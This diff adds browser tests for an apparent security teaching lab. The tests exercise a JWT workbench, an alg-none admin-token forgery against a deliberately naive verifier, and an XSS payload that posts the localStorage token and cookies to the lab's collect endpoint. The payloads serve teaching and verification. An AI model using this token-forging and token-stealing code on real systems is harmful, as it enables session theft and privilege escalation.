@@ -282,7 +282,7 @@ async fn the_tamper_lab_makes_alice_bob_on_the_naive_route_and_nobody_on_the_sig
     cookie_login_in_browser(&browser, &app).await;
     browser.text_of("#who").await;
 
-    browser.goto(&app, "/cookie/lab/naive").await;
+    browser.goto(&app, "/lab/vulnerable/naive-cookie").await;
     assert!(
         browser
             .text_of("#naive-who")
@@ -1536,5 +1536,202 @@ async fn the_instructor_page_and_presenter_mode_work_in_both_languages_at_1280()
             "{lang}: large type: {shown}"
         );
     }
+    browser.close().await;
+}
+
+/// Sets a textarea or input as typing would, firing its `input` event.
+async fn type_into(browser: &Browser, css: &str, value: &str) {
+    run_js(
+        browser,
+        "var el = document.querySelector(arguments[0]); el.value = arguments[1]; el.dispatchEvent(new Event('input', {bubbles: true})); el.dispatchEvent(new Event('change', {bubbles: true}));",
+        vec![json!(css), json!(value)],
+    )
+    .await;
+}
+
+/// This browser's lab's progress, as the page reads it.
+async fn browser_progress(browser: &Browser, id: &str) -> serde_json::Value {
+    let all = browser
+        .client
+        .execute_async(
+            "var done = arguments[arguments.length - 1]; fetch('/lab/progress').then(function (r) { return r.json(); }).then(done);",
+            vec![],
+        )
+        .await
+        .expect("progress");
+    all["challenges"]
+        .as_array()
+        .and_then(|list| list.iter().find(|c| c["id"] == id))
+        .cloned()
+        .unwrap_or_default()
+}
+
+#[actix_web::test]
+async fn the_workbench_decodes_verifies_re_signs_and_sends_a_token_authlab_did_not_issue_in_both_languages()
+ {
+    let app = spawn_app().await;
+    let browser = Browser::start().await;
+    const JWT_IO: &str = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
+    for (lang, verified) in [("en", "Signature verified"), ("ko", "")] {
+        browser
+            .goto(&app, &format!("/jwt/workbench?lang={lang}"))
+            .await;
+        type_into(&browser, "#wb-token", JWT_IO).await;
+        let header = run_js(
+            &browser,
+            "return document.getElementById('wb-header').value;",
+            vec![],
+        )
+        .await;
+        assert!(
+            header.as_str().unwrap_or_default().contains("HS256"),
+            "{header}"
+        );
+        let payload = run_js(
+            &browser,
+            "return document.getElementById('wb-payload').value;",
+            vec![],
+        )
+        .await;
+        assert!(
+            payload.as_str().unwrap_or_default().contains("John Doe"),
+            "{payload}"
+        );
+        // Decoded without a key; verified with jwt.io's secret, refused with another.
+        type_into(&browser, "#wb-secret", "your-256-bit-secret").await;
+        let state = browser.text_of("#wb-verify-state").await;
+        if !verified.is_empty() {
+            assert!(state.contains(verified), "{state}");
+        }
+        let good = state.clone();
+        type_into(&browser, "#wb-secret", "not-the-secret").await;
+        assert_ne!(browser.text_of("#wb-verify-state").await, good);
+        // The header line's size, byte for byte, and its growth with a claim.
+        type_into(&browser, "#wb-secret", "your-256-bit-secret").await;
+        let bytes = |browser: &Browser| {
+            let browser = browser;
+            async move {
+                browser
+                    .text_of("#wb-auth-bytes")
+                    .await
+                    .trim()
+                    .parse::<usize>()
+                    .expect("a number")
+            }
+        };
+        assert_eq!(
+            bytes(&browser).await,
+            "Authorization: Bearer ".len() + JWT_IO.len()
+        );
+        let built = run_js(&browser, "return window.workbench.built();", vec![]).await;
+        assert_eq!(
+            built,
+            json!(JWT_IO),
+            "signed again with its own secret: the same token"
+        );
+        type_into(
+            &browser,
+            "#wb-payload",
+            r#"{"sub":"1234567890","name":"John Doe","iat":1516239022,"course":"authlab"}"#,
+        )
+        .await;
+        assert!(bytes(&browser).await > "Authorization: Bearer ".len() + JWT_IO.len());
+        // Sent where the learner asks: this server refuses a token it did not sign.
+        run_js(
+            &browser,
+            "document.getElementById('wb-target').value = 'POST /jwt/api/token/verify';",
+            vec![],
+        )
+        .await;
+        browser.click("#wb-send").await;
+        let answer = wait_for_text(&browser, "#wb-answer", "401").await;
+        assert!(answer.contains("token_not_valid"), "{answer}");
+    }
+    // Unsigned, with a role, against the naive verifier: the alg-none challenge, by hand.
+    log_in_as_alice(&browser, &app, "/jwt", "#jwt-who").await;
+    browser.goto(&app, "/jwt/workbench").await;
+    browser.click("#wb-load-mine").await;
+    let payload = run_js(
+        &browser,
+        "return document.getElementById('wb-payload').value;",
+        vec![],
+    )
+    .await;
+    let mut claims: serde_json::Value =
+        serde_json::from_str(payload.as_str().unwrap_or_default()).expect("the payload is JSON");
+    claims["role"] = json!("admin");
+    type_into(&browser, "#wb-payload", &claims.to_string()).await;
+    browser.click("#wb-alg-none").await;
+    let built = run_js(&browser, "return window.workbench.built();", vec![]).await;
+    assert!(built.as_str().unwrap_or_default().ends_with('.'), "{built}");
+    assert_eq!(
+        browser_progress(&browser, "alg-none").await["solved"],
+        false
+    );
+    run_js(
+        &browser,
+        "document.getElementById('wb-target').value = 'GET /lab/vulnerable/jwt/alg-none/me';",
+        vec![],
+    )
+    .await;
+    browser.click("#wb-send").await;
+    let answer = wait_for_text(&browser, "#wb-answer", "200").await;
+    assert!(answer.contains("\"admin\": true"), "{answer}");
+    assert_eq!(browser_progress(&browser, "alg-none").await["solved"], true);
+    browser.close().await;
+}
+
+#[actix_web::test]
+async fn script_injected_into_the_xss_page_steals_the_local_storage_token_but_not_the_http_only_cookie()
+ {
+    let app = spawn_app().await;
+    let browser = Browser::start().await;
+    session_login_in_browser(&browser, &app).await;
+    log_in_as_alice(&browser, &app, "/token", "#token-who").await;
+    assert_eq!(
+        browser_progress(&browser, "xss-token").await["state"],
+        "not_started"
+    );
+    let injected = "<img src=x onerror=\"fetch('/lab/vulnerable/xss/collect',{method:'POST',body:localStorage.getItem('authlab.token')+' '+document.cookie}).then(function(r){return r.json()}).then(function(a){document.title='stolen:'+a.solved+':'+a.http_only_cookie_seen})\">";
+    let url = format!(
+        "/lab/vulnerable/xss?q={}",
+        percent_encoding::utf8_percent_encode(injected, percent_encoding::NON_ALPHANUMERIC)
+    );
+    browser.goto(&app, &url).await;
+    let deadline = Instant::now() + Duration::from_secs(10);
+    let title = loop {
+        let title = browser.client.title().await.unwrap_or_default();
+        if title.starts_with("stolen:") || Instant::now() > deadline {
+            break title;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    };
+    assert_eq!(
+        title, "stolen:true:false",
+        "the token left, the HttpOnly cookies did not"
+    );
+    assert_eq!(
+        browser_progress(&browser, "xss-token").await["solved"],
+        true
+    );
+    // The same words on a real page stay words.
+    browser
+        .goto(
+            &app,
+            &format!(
+                "/cookie?next={}",
+                percent_encoding::utf8_percent_encode(injected, percent_encoding::NON_ALPHANUMERIC)
+            ),
+        )
+        .await;
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    assert!(
+        !browser
+            .client
+            .title()
+            .await
+            .unwrap_or_default()
+            .starts_with("stolen:")
+    );
     browser.close().await;
 }
